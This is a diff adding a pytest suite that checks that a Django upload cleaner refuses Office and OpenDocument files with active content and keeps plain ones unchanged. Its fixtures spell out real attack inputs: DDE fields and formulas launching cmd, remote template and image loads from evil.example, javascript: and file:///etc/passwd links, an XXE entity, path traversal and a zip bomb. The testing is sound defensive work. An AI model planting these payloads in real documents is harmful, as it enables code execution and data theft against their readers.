@@ -1,0 +1,354 @@
+"""Office files: each kind of active content is refused by its name, plain ones are kept byte by byte."""
+
+import io
+import zipfile
+
+import pytest
+from django.core.exceptions import ValidationError
+
+from tests.documents.samples import (
+    SHEET,
+    SLIDES,
+    TEXT_DOCUMENT,
+    WORD,
+    A,
+    P,
+    R,
+    S,
+    make_odt,
+    make_office,
+    make_relationships,
+)
+from tfc.documents.cleaning import clean_upload
+
+EVIL = "https://evil.example/a"
+
+
+def clean(suffix: str, content: bytes) -> bytes:
+    return clean_upload(io.BytesIO(content), suffix=suffix, longest_side=0).file.read()
+
+
+def field(*pieces: str) -> str:
+    """A Word field whose instruction lies in several runs."""
+    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
+    begin, separate, end = (
+        f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "separate", "end")
+    )
+    return f"<w:body><w:p>{begin}{runs}{separate}<w:r><w:t>1</w:t></w:r>{end}</w:p></w:body>"
+
+
+NESTED = (
+    '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
+    '<w:r><w:instrText>QUOTE 68 68 69</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
+    '<w:r><w:instrText> cmd "/c calc"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
+)
+SHEET_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml."
+CELL = f'<worksheet xmlns="{S}"><sheetData><row><c><f>%s</f></c></row></sheetData></worksheet>'
+
+
+def sheet(formula: str) -> bytes:
+    return make_office(".xlsx", parts={"xl/worksheets/sheet1.xml": CELL % formula})
+
+
+def slide(body: str, *links: tuple[str, str, bool]) -> bytes:
+    parts: dict[str, bytes | str] = {
+        "ppt/slides/slide1.xml": f'<p:sld xmlns:p="{P}" xmlns:a="{A}" xmlns:r="{R}">{body}</p:sld>',
+        "ppt/slides/_rels/slide1.xml.rels": make_relationships(*links),
+    }
+    return make_office(".pptx", parts=parts)
+
+
+ACTIVE = {
+    "dde.docx": (
+        make_office(".docx", field("DDEAUTO c:\\\\Windows\\\\cmd.exe")),
+        "a field that loads or starts something (DDEAUTO)",
+    ),
+    "split-dde.docx": (
+        make_office(".docx", field(" D", "DE", " cmd ")),
+        "a field that loads or starts something (DDE)",
+    ),
+    "nested-dde.docx": (make_office(".docx", NESTED), "a field that loads or starts something (…)"),
+    "simple-dde.docx": (make_office(".docx", '<w:p><w:fldSimple w:instr="DDE cmd a"/></w:p>'), "(DDE)"),
+    "includepicture.docx": (make_office(".docx", field(f'INCLUDEPICTURE "{EVIL}" \\d')), "(INCLUDEPICTURE)"),
+    "includetext.docx": (make_office(".docx", field(f'INCLUDETEXT "{EVIL}"')), "(INCLUDETEXT)"),
+    "link-field.docx": (
+        make_office(".docx", field('HYPERLINK \\t "_blank" "file://evil.example/a"')),
+        "(HYPERLINK file://evil.example/a)",
+    ),
+    "altchunk.docx": (
+        make_office(
+            ".docx",
+            '<w:altChunk r:id="rId1"/>',
+            links=(("aFChunk", "a.mht", False),),
+            parts={"word/a.mht": "MIME"},
+        ),
+        "an inserted document (a.mht)",
+    ),
+    "template.docx": (
+        make_office(".docx", links=(("attachedTemplate", EVIL, True),)),
+        f"a part that is loaded from elsewhere ({EVIL})",
+    ),
+    "picture.docx": (
+        make_office(".docx", links=(("image", EVIL, True),)),
+        "a part that is loaded from elsewhere",
+    ),
+    "picture-as-link.docx": (
+        make_office(".docx", '<a:blip r:link="rId1"/>', links=(("hyperlink", EVIL, True),)),
+        "loaded from elsewhere (blip)",
+    ),
+    "drawn.docx": (
+        make_office(".docx", f'<v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="{EVIL}"/>'),
+        "loaded from elsewhere",
+    ),
+    "file-link.docx": (
+        make_office(".docx", '<w:hyperlink r:id="rId1"/>', links=(("hyperlink", "file:////evil/a", True),)),
+        "not a web or email address (file:////evil/a)",
+    ),
+    "script-link.docx": (
+        make_office(
+            ".docx", '<w:hyperlink r:id="rId1"/>', links=(("hyperlink", "javascript:alert(1)", True),)
+        ),
+        "not a web or email address",
+    ),
+    "no-mode.docx": (
+        make_office(".docx", links=(("image", "\\\\evil.example\\a.png", False),)),
+        "loaded from elsewhere",
+    ),
+    "macros.docx": (
+        make_office(
+            ".docx",
+            parts={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"},
+            links=(("vbaProject", "vbaProject.bin", False),),
+        ),
+        "a script or macro (vbaProject.bin)",
+    ),
+    "macro-type.docx": (
+        make_office(".docx", main_type="application/vnd.ms-word.document.macroEnabled.main+xml"),
+        "a script or macro",
+    ),
+    "object.docx": (
+        make_office(
+            ".docx",
+            '<w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" ProgID="Package"/></w:object>',
+            parts={"word/embeddings/a.bin": b"\xd0\xcf\x11\xe0"},
+        ),
+        "an embedded object (object)",
+    ),
+    "package.docx": (
+        make_office(
+            ".docx", links=(("package", "embeddings/a.docx", False),), parts={"word/embeddings/a.docx": WORD}
+        ),
+        "an embedded object",
+    ),
+    "merge.docx": (make_office(".docx", "<w:mailMerge/>"), "a connection to other data"),
+    "program.docx": (
+        make_office(".docx", parts={"word/media/a.png": b"MZ\x90"}),
+        "a part of an unknown kind (word/media/a.png)",
+    ),
+    "svg.docx": (
+        make_office(
+            ".docx",
+            parts={
+                "word/media/a.svg": f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{EVIL}"/></svg>'
+            },
+        ),
+        "loaded from elsewhere",
+    ),
+    "video.pptx": (
+        slide('<a:videoFile r:link="rId1"/>', ("video", EVIL, True)),
+        f"a part that is loaded from elsewhere ({EVIL})",
+    ),
+    "hover.pptx": (
+        slide('<a:hlinkHover r:id="rId1"/>', ("hyperlink", EVIL, True)),
+        "loaded from elsewhere (hlinkHover)",
+    ),
+    "program.pptx": (
+        slide('<a:hlinkClick r:id="rId1" action="ppaction://program"/>', ("hyperlink", EVIL, True)),
+        "an action that starts a program",
+    ),
+    "macro.pptx": (
+        slide('<a:hlinkClick r:id="" action="ppaction://macro?name=a"/>'),
+        "an action that starts a program",
+    ),
+    "control.pptx": (
+        slide('<p:control r:id="rId1"/>', ("control", "../activeX/a.xml", False)),
+        "an ActiveX control",
+    ),
+    "addin.pptx": (
+        make_office(".pptx", parts={"ppt/webextensions/a.xml": '<we:webextension xmlns:we="x"/>'}),
+        "an Office add-in",
+    ),
+    "chart.pptx": (
+        make_office(
+            ".pptx",
+            parts={
+                "ppt/charts/chart1.xml": "<a/>",
+                "ppt/charts/_rels/chart1.xml.rels": make_relationships(
+                    ("package", "../embeddings/a.xlsx", False)
+                ),
+                "ppt/embeddings/a.xlsx": sheet("cmd|' /c calc'!A1"),
+            },
+        ),
+        "a formula that loads or starts something (DDE)",
+    ),
+    "connection.xlsx": (
+        make_office(
+            ".xlsx",
+            links=(("connections", "connections.xml", False),),
+            parts={"xl/connections.xml": f'<connections xmlns="{S}"><webPr url="{EVIL}"/></connections>'},
+        ),
+        "a connection to other data (connections.xml)",
+    ),
+    "unlinked-connection.xlsx": (
+        make_office(
+            ".xlsx",
+            parts={"xl/connections.xml": "<a/>"},
+            types=f'<Override PartName="/xl/connections.xml" ContentType="{SHEET_TYPE}connections+xml"/>',
+        ),
+        "a connection to other data (xl/connections.xml)",
+    ),
+    "query.xlsx": (
+        make_office(
+            ".xlsx",
+            parts={
+                "customXml/item1.xml": '<DataMashup xmlns="http://schemas.microsoft.com/DataMashup">AAAA</DataMashup>'
+            },
+        ),
+        "a connection to other data",
+    ),
+    "pivot.xlsx": (
+        make_office(
+            ".xlsx",
+            parts={"xl/pivotCache/a.xml": f'<pivot xmlns="{S}"><cacheSource type="external"/></pivot>'},
+        ),
+        "a connection to other data",
+    ),
+    "dde.xlsx": (
+        make_office(
+            ".xlsx",
+            parts={
+                "xl/externalLinks/a.xml": f'<externalLink xmlns="{S}"><ddeLink ddeService="cmd"/></externalLink>'
+            },
+        ),
+        "a connection to other data (ddeLink)",
+    ),
+    "web.xlsx": (sheet('_xlfn.WEBSERVICE("https://evil.example/"&amp;A1)'), "(WEBSERVICE)"),
+    "image.xlsx": (sheet(f'_xlfn.IMAGE("{EVIL}")'), "(IMAGE)"),
+    "other-book.xlsx": (
+        sheet("'\\\\evil.example\\s\\[a.xlsx]B'!A1"),
+        "a formula that loads or starts something",
+    ),
+    "macro-sheet.xlsx": (
+        make_office(".xlsx", links=(("xlMacrosheet", "m.xml", False),), parts={"xl/m.xml": "<a/>"}),
+        "a script or macro",
+    ),
+    "shape-macro.xlsx": (
+        make_office(".xlsx", parts={"xl/drawings/d.xml": '<sp macro="[0]!Run"/>'}),
+        "a script or macro",
+    ),
+    "picture.odt": (
+        make_odt(f'<draw:image xlink:href="{EVIL}"/>'),
+        f"a part that is loaded from elsewhere ({EVIL})",
+    ),
+    "local.odt": (
+        make_odt('<draw:image xlink:href="../../secret.png"/>'),
+        "a part that is loaded from elsewhere",
+    ),
+    "section.odt": (
+        make_odt(f'<text:section><text:section-source xlink:href="{EVIL}"/></text:section>'),
+        "loaded from elsewhere",
+    ),
+    "listener.odt": (
+        make_odt('<script:event-listener script:event-name="dom:load" xlink:href="vnd.sun.star.script:a"/>'),
+        "a script or macro",
+    ),
+    "button.odt": (
+        make_odt('<text:a xlink:href="vnd.sun.star.script:a?language=Basic">x</text:a>'),
+        "a script or macro",
+    ),
+    "dde.odt": (make_odt('<office:dde-source office:dde-application="cmd"/>'), "a connection to other data"),
+    "object.odt": (make_odt('<draw:object-ole xlink:href="./Object 1"/>'), "an embedded object"),
+    "frame.odt": (make_odt(f'<draw:floating-frame xlink:href="{EVIL}"/>'), "an embedded object"),
+    "macros.odt": (
+        make_odt(parts={"Basic/Standard/Module1.xml": "<a/>"}),
+        "a script or macro (Basic/Standard/Module1.xml)",
+    ),
+    "link.odt": (
+        make_odt('<text:a xlink:href="file:///etc/passwd">x</text:a>'),
+        "not a web or email address",
+    ),
+}
+
+
+@pytest.mark.parametrize("name", ACTIVE)
+def test_it_says_what_it_found(name: str):
+    content, found = ACTIVE[name]
+    with pytest.raises(ValidationError) as refused:
+        clean(name[name.rindex(".") :], content)
+    sentence = refused.value.messages[0]
+    assert refused.value.code == "active"
+    assert sentence.startswith("This file contains ")
+    assert found in sentence
+
+
+@pytest.mark.parametrize(
+    ("suffix", "content"),
+    [
+        (".docx", WORD),
+        (".pptx", SLIDES),
+        (".xlsx", SHEET),
+        (".odt", TEXT_DOCUMENT),
+        (".docx", make_office(".docx", field("PAGE \\* MERGEFORMAT"))),
+        (".docx", make_office(".docx", field('HYPERLINK "https://fine.example/" \\o "a tip" \\t "_blank"'))),
+        (".docx", make_office(".docx", field('HYPERLINK \\l "_Toc1"'))),
+        (
+            ".docx",
+            make_office(
+                ".docx", '<w:hyperlink r:id="rId1"/>', links=(("hyperlink", "mailto:a@b.example", True),)
+            ),
+        ),
+        (".docx", make_office(".docx", '<m:f xmlns:m="urn:math"><m:t>a|b</m:t></m:f>')),
+        (".xlsx", sheet('IF(A1&gt;1,"a|b",HYPERLINK("https://fine.example","see"))')),
+        (".xlsx", sheet("SUM('Plan | 2026'!A1:A3)*2")),
+        (
+            ".odt",
+            make_odt(
+                '<text:a xlink:href="https://fine.example/">x</text:a><text:a xlink:href="#a">y</text:a>'
+            ),
+        ),
+    ],
+    ids=lambda value: value if isinstance(value, str) else "",
+)
+def test_it_keeps_plain_ones_byte_by_byte(suffix: str, content: bytes):
+    assert clean(suffix, content) == content
+
+
+def doubled() -> bytes:
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w") as archive:
+        for name in ("[Content_Types].xml", "word/document.xml", "Word/Document.xml"):
+            archive.writestr(name, "<a/>")
+    return out.getvalue()
+
+
+ENTITY = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
+
+
+@pytest.mark.parametrize(
+    ("suffix", "content", "code"),
+    [
+        (".docx", doubled(), "unsafe-package"),
+        (".docx", make_office(".docx", parts={"../../etc/passwd": "x"}), "unsafe-package"),
+        (".docx", make_office(".docx", parts={"word/a.xml": ENTITY}), "unsafe-package"),
+        (".docx", make_office(".docx", parts={"word/a.xml": "<a><b></a>"}), "broken-part"),
+        (".docx", make_office(".docx", parts={"word/media/a.bmp": b"BM" + bytes(30 << 20)}), "too-much"),
+        (".docx", SHEET, "wrong-kind"),
+        (".docx", b"PK\3\4 broken", "wrong-kind"),
+        (".odt", WORD, "wrong-kind"),
+    ],
+    ids=["twice", "path", "entity", "xml", "bomb", "other", "broken", "family"],
+)
+def test_it_refuses_packages_that_it_cannot_trust(suffix: str, content: bytes, code: str):
+    with pytest.raises(ValidationError) as refused:
+        clean(suffix, content)
+    assert refused.value.code == code
